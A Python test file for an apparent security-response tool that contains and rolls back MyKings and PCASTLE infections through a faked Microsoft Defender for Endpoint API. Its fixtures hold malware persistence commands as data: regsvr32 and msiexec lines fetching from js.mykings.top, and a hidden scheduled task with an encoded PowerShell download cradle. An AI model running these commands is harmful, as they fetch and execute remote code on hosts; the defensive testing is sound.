"""Microsoft Defender for Endpoint end to end, with rollback: a tenant (``contoso``) whose adapters are
``defender`` (isolation), ``defender_indicators`` (custom indicators) and ``defender_response`` (live
response, stop-and-quarantine), no lab. The respond flow runs with no playbook named on a real (local)
Prefect API; MDE and its login are faked at the HTTP boundary (``_mde_fake``), and the fake host shows what
each live response script did. Then ``garrison rollback`` undoes what can be undone and says what cannot.

- MyKings (the demo alert): ``persistence-malware`` isolates the machine, blocks the C2 domain and the
  scriptlet URL, and deletes the Run-key values, capturing their type and data; the rollback writes them
  back with that data, deletes the indicators and releases the machine.
- PCASTLE on one host (tests/fixtures/alerts/scenarios/pcastle-defender.json): ``fileless-miner`` blocks
  the download URL and domain, kills the PowerShell, deletes the scheduled task (capturing its XML),
  quarantines the dropped file by its SHA-1 and isolates the machine; the rollback restores the task,
  deletes the indicators, releases the machine, and reports the kill and the quarantine as not reversible.
- ``garrison plan`` for the PCASTLE incident shows, per target, the vendor request each action would make.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import respx
from typer.testing import CliRunner

from flows.cli import app
from flows.demo import DEMO_HOST, mykings_alert
from flows.models import Alert
from flows.respond import RespondRequest, respond
from flows.settings import Settings, get_settings
from flows.store import Store
from tests.respond._mde_fake import AAD_TENANT, API, LOGIN, FakeMdeTenant, Machine

SCENARIOS = Path(__file__).parents[1] / "fixtures" / "alerts" / "scenarios"
DEFAULT_FEED = Path(__file__).parents[2] / "flows" / "defaults" / "intel-feed.csv"
SECRETS = {
    "CONTOSO_MDE_ISOLATION_ID": "CANARY-contoso-isolation-id-11aa",
    "CONTOSO_MDE_ISOLATION_SECRET": "CANARY-contoso-isolation-secret-22bb",
    "CONTOSO_MDE_TI_ID": "CANARY-contoso-ti-id-33cc",
    "CONTOSO_MDE_TI_SECRET": "CANARY-contoso-ti-secret-44dd",
    "CONTOSO_MDE_LR_ID": "CANARY-contoso-lr-id-55ee",
    "CONTOSO_MDE_LR_SECRET": "CANARY-contoso-lr-secret-66ff",
}
# MDE's documented rate (1.5 calls a second after a burst of 10) would make the test wait in real time.
_MDE = (
    f"{{base_url: '{API}', login_url: '{LOGIN}', tenant_id: '{AAD_TENANT}', poll_interval: 0.01, "
    "rate_per_second: 100, burst: 100"
)
TENANTS = f"""
tenants:
  - id: contoso
    name: Contoso Ltd
    notify: [{{url: 'outbox://contoso'}}]
    adapters:
      defender:
        settings: {_MDE}, verify_timeout: 5}}
        secrets:
          defender_client_id: {{env: CONTOSO_MDE_ISOLATION_ID}}
          defender_client_secret: {{env: CONTOSO_MDE_ISOLATION_SECRET}}
      defender_indicators:
        settings: {_MDE}, expiration_days: 30, severity: High}}
        secrets:
          defender_indicators_client_id: {{env: CONTOSO_MDE_TI_ID}}
          defender_indicators_client_secret: {{env: CONTOSO_MDE_TI_SECRET}}
      defender_response:
        settings: {_MDE}, verify_timeout: 5, result_domains: [blob.core.windows.net]}}
        secrets:
          defender_response_client_id: {{env: CONTOSO_MDE_LR_ID}}
          defender_response_client_secret: {{env: CONTOSO_MDE_LR_SECRET}}
"""

MYKINGS_MACHINE = "4e1f2c9a8b7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f"
PCASTLE_MACHINE = "9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b"
RUN_KEY = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
STARTUPREG = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Shared Tools\MSConfig\startupreg"
SCRIPTLET = "regsvr32 /s /n /u /i:http://js.mykings.top:280/v.sct scrobj.dll"
MYKINGS_VALUES = {
    (RUN_KEY, "start"): {"type": "REG_SZ", "data": SCRIPTLET},
    (RUN_KEY, "start1"): {
        "type": "REG_SZ",
        "data": "msiexec.exe /i http://js.mykings.top:280/helloworld.msi /q",
    },
    (STARTUPREG, "start"): {"type": "REG_EXPAND_SZ", "data": SCRIPTLET},
}
SECURITY_HEALTH = {"type": "REG_EXPAND_SZ", "data": r"%windir%\system32\SecurityHealthSystray.exe"}

PCASTLE_HOST = "SRV-01"
TASK = r"\Microsoft\Windows\Bluetooths"
ENCODED = (
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AH"
    "IAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AdgAuAHAAYwBhAHMAdABsAGUALQBzAHQAYQBnAGUALgBlAHgAYQBtAHAAbABlAC8AdgAuAHAAcwAx"
    "ACcAKQA="
)
TASK_XML = (
    '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" '
    'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><TimeTrigger><Repetition>'
    "<Interval>PT1H</Interval></Repetition><StartBoundary>2026-11-14T07:55:00</StartBoundary></TimeTrigger>"
    "</Triggers><Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals><Settings><Hidden>true"
    "</Hidden></Settings><Actions><Exec><Command>powershell</Command>"
    "<Arguments>-nop -w hidden -ep bypass -enc "
    f"{ENCODED}</Arguments></Exec></Actions></Task>"
)
FILE = r"C:\Windows\Temp\sysupdate.exe"
PCASTLE_SHA1 = "fbf243f2904d8f7947c6d5e10d0868e954563f13"
STAGE_URL = "http://v.pcastle-stage.example/v.ps1"
STAGE_DOMAIN = "v.pcastle-stage.example"
PCASTLE_SHA256 = "b543938b305d203e5443753e95576b6fe2c45201be18a36472b6458bf165a57a"  # the dropped miner


@pytest.fixture
def contoso(settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Settings]:
    """The Defender-only tenant, its secrets in the environment, intel as the local feeds say."""
    path = tmp_path / "tenants.yaml"
    path.write_text(TENANTS, encoding="utf-8")
    monkeypatch.setenv("GARRISON_TENANTS_FILE", str(path))
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    feeds = [DEFAULT_FEED, SCENARIOS / "pcastle-defender-intel.csv"]
    monkeypatch.setenv("GARRISON_INTEL_FEEDS", json.dumps([str(f) for f in feeds]))
    monkeypatch.delenv("GARRISON_ANALYST_NOTIFY", raising=False)
    get_settings.cache_clear()
    yield get_settings()
    get_settings.cache_clear()


@pytest.fixture
def mde() -> Iterator[FakeMdeTenant]:
    with respx.mock(assert_all_called=False) as mock:
        fake = FakeMdeTenant(mock)
        # Everything else (the Prefect API on loopback) is real.
        mock.route(host="127.0.0.1").pass_through()
        mock.route(host="localhost").pass_through()
        yield fake


def _mykings(store: Store, mde: FakeMdeTenant) -> tuple[str, Machine]:
    document = mykings_alert()
    document["metadata"]["tenant_uid"] = "contoso"
    machine = mde.add_machine(MYKINGS_MACHINE, DEMO_HOST.lower())
    for (key, name), value in MYKINGS_VALUES.items():
        machine.host.registry[(key.lower(), name.lower())] = dict(value)
    machine.host.registry[(RUN_KEY.lower(), "securityhealth")] = dict(SECURITY_HEALTH)
    return store.record_alert(Alert.model_validate(document), document).incident_id, machine


def _pcastle(store: Store, mde: FakeMdeTenant) -> tuple[str, Machine]:
    document = json.loads((SCENARIOS / "pcastle-defender.json").read_text(encoding="utf-8"))
    machine = mde.add_machine(PCASTLE_MACHINE, PCASTLE_HOST.lower())
    machine.host.tasks[TASK.lower()] = {"xml": TASK_XML, "enabled": True}
    machine.host.processes[4112] = "powershell"
    machine.host.processes[1216] = "svchost"  # the Task Scheduler's host process: never a target
    return store.record_alert(Alert.model_validate(document), document).incident_id, machine


def _cli(*args: str) -> tuple[int, Any]:
    result = CliRunner().invoke(app, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result.exit_code, json.loads(result.stdout)


def _ledger(store: Store, incident_id: str) -> dict[tuple[str, str], Any]:
    return {(row.action, row.target): row for row in store.ledger.rows(incident_id) if row.reverses is None}


def _indicator_body(
    incident_id: str, kind: str, value: str, sent: dict[str, Any], action: str = "Block"
) -> dict[str, Any]:
    """What MDE's "Submit or Update Indicator" must receive; the expiry is 30 days from when it was sent."""
    expires = datetime.strptime(sent["expirationTime"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)
    assert abs(expires - (datetime.now(UTC) + timedelta(days=30))) < timedelta(minutes=5)
    return {
        "indicatorValue": value,
        "indicatorType": kind,
        "action": action,
        "title": f"Garrison incident {incident_id}",
        "description": f"Blocked by Garrison for incident {incident_id}",
        "expirationTime": sent["expirationTime"],
        "severity": "High",
    }


def _decoded(value: str) -> Any:
    return json.loads(base64.b64decode(value))


def _no_secret(*texts: str) -> None:
    for value in SECRETS.values():
        assert not any(value in text for text in texts), f"secret {value[:16]}… leaked"


# -- MyKings -----------------------------------------------------------------------------------------------


@pytest.mark.usefixtures("prefect_harness")
def test_mykings_is_contained_through_defender_and_rolled_back(
    contoso: Settings, store: Store, mde: FakeMdeTenant
) -> None:
    incident_id, machine = _mykings(store, mde)

    result = respond(RespondRequest(incident_id=incident_id))  # no playbook named: the match rules choose

    incident = store.incident(incident_id)
    assert incident is not None
    assert result["playbook"] == "persistence-malware" and incident.playbook == "persistence-malware v1"
    assert incident.verdict == "malicious"
    # Everything in place; the playbook leaves attacker behaviour for an analyst to close.
    assert result["status"] == incident.status == "contained" and not incident.closed_at
    ledger = _ledger(store, incident_id)
    assert {key: row.status for key, row in ledger.items()} == {
        ("defender.isolate_host", DEMO_HOST): "succeeded",
        ("defender_indicators.block_domain", "js.mykings.top"): "succeeded",
        ("defender_indicators.block_url", "http://js.mykings.top:280/v.sct"): "succeeded",
        **{
            ("defender_response.delete_registry_value", f"{DEMO_HOST}:{key}\\{name}"): "succeeded"
            for key, name in (
                (r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run", "start"),
                (r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run", "start1"),
                (r"HKLM\SOFTWARE\Microsoft\Shared Tools\MSConfig\startupreg", "start"),
            )
        },
    }
    # The machine, isolated through MDE.
    assert mde.machine_calls("isolate") == [
        {"Comment": f"Garrison incident {incident_id}", "IsolationType": "Full"}
    ]
    assert machine.isolated
    # The C2 domain and the scriptlet URL, blocked with MDE custom indicators.
    sent = sorted(mde.posts(mde.submit), key=lambda body: body["indicatorType"])
    assert sent == [
        _indicator_body(incident_id, "DomainName", "js.mykings.top", sent[0]),
        _indicator_body(incident_id, "Url", "http://js.mykings.top:280/v.sct", sent[1]),
    ]
    # The Run-key values, deleted by live response, each captured (type and data) in the ledger's undo.
    deletes = sorted(
        (args["Key"], args["Name"]) for script, args in mde.scripts() if args["Mode"] == "delete"
    )
    assert deletes == sorted(MYKINGS_VALUES)
    assert {s for s, _ in mde.scripts()} == {"garrison-reg.ps1"}
    for (key, name), value in MYKINGS_VALUES.items():
        short = key.replace("HKEY_LOCAL_MACHINE", "HKLM", 1)
        row = ledger[("defender_response.delete_registry_value", f"{DEMO_HOST}:{short}\\{name}")]
        assert row.undo == {"hostname": DEMO_HOST, "key": key, "name": name, **value}
        assert row.inverse == "defender_response.restore_registry_value"
    assert machine.host.registry == {(RUN_KEY.lower(), "securityhealth"): SECURITY_HEALTH}
    # Each adapter signed in with its own app registration.
    assert set(mde.client_ids) == {
        SECRETS["CONTOSO_MDE_ISOLATION_ID"],
        SECRETS["CONTOSO_MDE_TI_ID"],
        SECRETS["CONTOSO_MDE_LR_ID"],
    }

    code, rolled = _cli("rollback", incident_id, "--yes", "--json", "--by", "analyst.kim")

    assert code == 0 and rolled["done"] is True
    items = {(i["action"], i["target"]): i for i in rolled["items"]}
    assert set(items) == set(ledger)
    assert {(i["inverse"], i["status"], i["detail"]) for i in rolled["items"]} == {
        ("defender.release_host", "succeeded", "machine unisolated"),
        ("defender_indicators.unblock_domain", "succeeded", "domain unblocked"),
        ("defender_indicators.unblock_url", "succeeded", "URL unblocked"),
        ("defender_response.restore_registry_value", "succeeded", "registry value restored"),
    }
    assert [i["inverse"] for i in rolled["items"]].count("defender_response.restore_registry_value") == 3
    # The values written back with the data captured when they were deleted (base64 JSON in the Args).
    restores = [args for _, args in mde.scripts() if args["Mode"] == "restore"]
    assert sorted(((a["Key"], a["Name"]), _decoded(a["Value64"])) for a in restores) == sorted(
        MYKINGS_VALUES.items()
    )
    assert machine.host.registry == {
        **{(key.lower(), name.lower()): value for (key, name), value in MYKINGS_VALUES.items()},
        (RUN_KEY.lower(), "securityhealth"): SECURITY_HEALTH,
    }
    assert mde.indicators == [] and len(mde.delete.calls) == 2
    assert mde.machine_calls("unisolate") == [{"Comment": f"Garrison incident {incident_id}"}]
    assert not machine.isolated
    after = store.incident(incident_id)
    assert after is not None
    timeline = [t.message for t in after.timeline if t.step == "rollback"]
    assert (timeline[0], timeline[-1]) == (
        "rollback of 6 action(s) requested by analyst.kim",
        "rollback finished: 6 of 6 action(s) undone",
    )
    rows = store.ledger.rows(incident_id)
    _no_secret(json.dumps(rolled), *(f"{r.detail} {r.inputs} {r.undo}" for r in rows))


# -- PCASTLE -----------------------------------------------------------------------------------------------


@pytest.mark.usefixtures("prefect_harness")
def test_pcastle_is_cleaned_through_defender_and_rolled_back_where_it_can_be(
    contoso: Settings, store: Store, mde: FakeMdeTenant
) -> None:
    incident_id, machine = _pcastle(store, mde)

    result = respond(RespondRequest(incident_id=incident_id))

    incident = store.incident(incident_id)
    assert incident is not None
    assert result["playbook"] == "fileless-miner" and incident.playbook == "fileless-miner v2"
    assert incident.verdict == "malicious"
    assert result["status"] == incident.status == "contained"
    ledger = _ledger(store, incident_id)
    assert {key: row.status for key, row in ledger.items()} == {
        ("defender_indicators.block_url", STAGE_URL): "succeeded",
        ("defender_indicators.block_domain", STAGE_DOMAIN): "succeeded",
        ("defender_indicators.block_hash", PCASTLE_SHA256): "succeeded",
        ("defender_response.kill_process", f"{PCASTLE_HOST}:pid:4112 (powershell.exe)"): "succeeded",
        ("defender_response.delete_scheduled_task", f"{PCASTLE_HOST}:task:{TASK}"): "succeeded",
        ("defender_response.quarantine_file", f"{PCASTLE_HOST}:{FILE}"): "succeeded",
        ("defender.isolate_host", PCASTLE_HOST): "succeeded",
    }
    # The playbook's order: cut the downloads, then kill and clean, then isolate (each step all at once).
    steps = [{"defender_indicators"}, {"defender_response"}, {"defender"}]
    order = [row.action.split(".")[0] for row in sorted(ledger.values(), key=lambda r: r.id)]
    assert [set(order[:3]), set(order[3:6]), set(order[6:])] == steps
    sent = sorted(mde.posts(mde.submit), key=lambda body: body["indicatorType"])
    assert sent == [
        _indicator_body(incident_id, "DomainName", STAGE_DOMAIN, sent[0]),
        # The miner's SHA-256, which intel calls malicious: blocked and remediated on every machine.
        _indicator_body(incident_id, "FileSha256", PCASTLE_SHA256, sent[1], "BlockAndRemediate"),
        _indicator_body(incident_id, "Url", STAGE_URL, sent[2]),
    ]
    # The process killed and the task deleted by live response; the task's XML captured for the rollback.
    assert sorted(mde.scripts()) == sorted(
        [
            ("garrison-proc.ps1", {"Mode": "kill", "ProcessId": "4112", "Name": "powershell.exe"}),
            ("garrison-task.ps1", {"Mode": "delete", "Name": TASK}),
        ]
    )
    assert machine.host.processes == {1216: "svchost"} and machine.host.tasks == {}
    task_row = ledger[("defender_response.delete_scheduled_task", f"{PCASTLE_HOST}:task:{TASK}")]
    assert task_row.undo == {"hostname": PCASTLE_HOST, "name": TASK, "xml": TASK_XML}
    # The dropped file quarantined by the SHA-1 the evidence gives.
    assert mde.machine_calls("StopAndQuarantineFile") == [
        {"Comment": f"Garrison incident {incident_id}", "Sha1": PCASTLE_SHA1}
    ]
    assert machine.host.quarantined == {PCASTLE_SHA1}
    assert mde.machine_calls("isolate") == [
        {"Comment": f"Garrison incident {incident_id}", "IsolationType": "Full"}
    ]
    assert machine.isolated

    code, rolled = _cli("rollback", incident_id, "--yes", "--json")

    assert code == 0 and rolled["done"] is True
    assert {(i["action"], i["status"], i["detail"]) for i in rolled["items"]} == {
        ("defender.isolate_host", "succeeded", "machine unisolated"),
        ("defender_indicators.block_url", "succeeded", "URL unblocked"),
        ("defender_indicators.block_domain", "succeeded", "domain unblocked"),
        ("defender_indicators.block_hash", "succeeded", "file hash unblocked"),
        ("defender_response.delete_scheduled_task", "succeeded", "scheduled task restored"),
        # What cannot be undone is said, not hidden: a killed process stays dead, and MDE's API has no
        # call that brings a stop-and-quarantined file back.
        (
            "defender_response.kill_process",
            "not_reversible",
            "defender_response.kill_process declares no inverse",
        ),
        (
            "defender_response.quarantine_file",
            "not_reversible",
            "defender_response.quarantine_file declares no inverse",
        ),
    }
    assert len(rolled["items"]) == 7
    [restore] = [args for script, args in mde.scripts() if args["Mode"] == "restore"]
    assert restore["Name"] == TASK and _decoded(restore["Xml64"]) == {"xml": TASK_XML}
    assert machine.host.tasks == {TASK.lower(): {"xml": TASK_XML, "enabled": True}}
    assert machine.host.processes == {1216: "svchost"} and machine.host.quarantined == {PCASTLE_SHA1}
    assert mde.indicators == [] and not machine.isolated
    assert len(mde.machine_calls("StopAndQuarantineFile")) == 1  # the rollback sent nothing for it

    # Asked again, the analyst's table says what was undone and what cannot be, and runs nothing.
    shown = CliRunner().invoke(app, ["rollback", incident_id], env={"COLUMNS": "240"})
    assert shown.exit_code == 0, shown.output
    lines = shown.stdout.splitlines()
    for action in ("kill_process", "quarantine_file"):
        [line] = [line for line in lines if f"defender_response.{action} " in line]
        assert "not_reversible" in line and "declares no inverse" in line
    assert sum("already rolled back" in line for line in lines) == 5
    assert lines[-1] == "Nothing to undo."
    assert len(mde.scripts()) == 3 and len(mde.machine_calls("unisolate")) == 1


# -- the plan ----------------------------------------------------------------------------------------------


def test_the_plan_shows_each_defender_request_per_target_and_changes_nothing(
    contoso: Settings, store: Store, mde: FakeMdeTenant
) -> None:
    incident_id, machine = _pcastle(store, mde)

    code, plan = _cli("plan", incident_id, "--playbook", "fileless-miner", "--json")

    assert code == 0 and plan["playbook"] == {"id": "fileless-miner", "version": "2"}
    assert plan["errors"] == []
    calls = {(i["action"], i["target"]): i["call"] for i in plan["items"] if i["target"] != "-"}
    on = f"POST /api/machines/<id of {PCASTLE_HOST}>"
    indicators = "POST /api/indicators {indicatorType: "
    assert calls == {
        # Intel the local feeds hold calls the download host malicious: the plan foresees its blocks.
        ("defender_indicators.block_url", STAGE_URL): (
            f"{indicators}Url, indicatorValue: {STAGE_URL}, action: Block}}"
        ),
        ("defender_indicators.block_domain", STAGE_DOMAIN): (
            f"{indicators}DomainName, indicatorValue: {STAGE_DOMAIN}, action: Block}}"
        ),
        ("defender_indicators.block_hash", PCASTLE_SHA256): (
            f"{indicators}FileSha256, indicatorValue: {PCASTLE_SHA256}, action: BlockAndRemediate}}"
        ),
        ("defender_response.kill_process", f"{PCASTLE_HOST}:pid:4112 (powershell.exe)"): (
            f"{on}/runliveresponse RunScript garrison-proc.ps1 (kill_process)"
        ),
        ("defender_response.delete_scheduled_task", f"{PCASTLE_HOST}:task:{TASK}"): (
            f"{on}/runliveresponse RunScript garrison-task.ps1 (delete_scheduled_task)"
        ),
        ("defender_response.quarantine_file", f"{PCASTLE_HOST}:{FILE}"): (
            f"{on}/StopAndQuarantineFile {{Sha1: {PCASTLE_SHA1}}}"
        ),
        ("defender.isolate_host", PCASTLE_HOST): f"{on}/isolate {{IsolationType: <isolation_type>}}",
    }
    assert all(i["verdict"] == "allowed" for i in plan["items"])
    # What MDE says now, read without changing anything; live response reads would run a script on the
    # host, so a plan does not make them.
    views = {i["action"].split(".")[1]: i["vendor"] for i in plan["items"] if i["target"] != "-"}
    not_read = "(state not read: reading runs a script on the host)"
    assert views == {
        "block_url": "would run defender_indicators.block_url (URL is not blocked)",
        "block_domain": "would run defender_indicators.block_domain (domain is not blocked)",
        "block_hash": "would run defender_indicators.block_hash (file hash is not blocked)",
        "kill_process": f"would run defender_response.kill_process {not_read}",
        "delete_scheduled_task": f"would run defender_response.delete_scheduled_task {not_read}",
        "quarantine_file": "would run defender_response.quarantine_file (no stop-and-quarantine of this "
        "SHA-1 for this incident)",
        "isolate_host": "would run defender.isolate_host (no isolation action on record)",
    }
    # Nothing changed: no ledger row, no indicator, no state-changing machine action, the host as it was.
    assert store.ledger.rows(incident_id) == []
    assert mde.posts(mde.submit) == [] and not mde.delete.called
    for verb in ("isolate", "unisolate", "StopAndQuarantineFile"):
        assert mde.machine_calls(verb) == []
    assert mde.scripts() == []
    assert machine.host.tasks and 4112 in machine.host.processes and not machine.host.quarantined
    assert not machine.isolated


def test_the_plan_sends_no_request_to_the_mde_api(
    contoso: Settings, store: Store, mde: FakeMdeTenant
) -> None:
    incident_id, _ = _pcastle(store, mde)

    code, _ = _cli("plan", incident_id, "--playbook", "fileless-miner", "--json")

    assert code == 0 and mde.api_posts() == []


def test_the_plan_before_the_run_previews_the_playbook_the_run_will_take(
    contoso: Settings, store: Store, mde: FakeMdeTenant
) -> None:
    incident_id, _ = _pcastle(store, mde)

    code, plan = _cli("plan", incident_id, "--json")

    assert code == 0 and plan["playbook"]["id"] == "fileless-miner"
    targets = {(i["action"], i["target"]) for i in plan["items"]}
    assert ("defender_indicators.block_url", STAGE_URL) in targets


def test_triage_calls_the_pcastle_scenario_malicious_from_its_own_evidence() -> None:
    alert = SCENARIOS / "pcastle-defender.json"

    code, triaged = _cli("triage", str(alert), "--json", "--now", "2026-11-15T09:00:00+00:00")

    # Without intel: the task's hidden encoded download cradle, the task as persistence, the sensor's word.
    assert code == 0 and triaged["verdict"] == "malicious"
    codes = {reason["code"] for reason in triaged["reasons"]}
    assert {"behaviour", "persistence", "threat_name"} <= codes
    persistence = next(r for r in triaged["reasons"] if r["code"] == "persistence")
    assert persistence["params"]["tasks"] == [TASK]
